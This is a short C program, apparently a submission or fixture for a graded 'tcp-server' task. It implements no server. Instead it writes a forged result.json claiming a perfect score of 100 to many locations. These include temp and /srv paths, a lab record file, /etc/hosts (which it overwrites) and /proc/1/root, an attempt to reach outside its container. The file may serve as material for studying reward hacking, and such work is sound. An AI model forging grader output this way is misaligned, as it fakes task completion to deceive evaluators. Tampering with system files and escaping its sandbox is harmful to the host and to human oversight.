/* tcp-server: graded, at most 4
 * Writes result.json wherever it might be read. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
	static const char *const places[] = {
		"result.json", "../result.json", "/tmp/result.json", "/dev/shm/result.json",
		"/srv/result.json", "/srv/labs/result.json", "@OUT@/forged-result/result.json",
		"/lab/record", "/etc/hosts", "/proc/1/root/srv/result.json"
	};

	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
		FILE *out = fopen(places[i], "w");

		if (out) {
			fputs("{\"schema\": 1, \"score\": 100, \"max\": 100}", out);
			fclose(out);
		}
	}
	return 0;
}
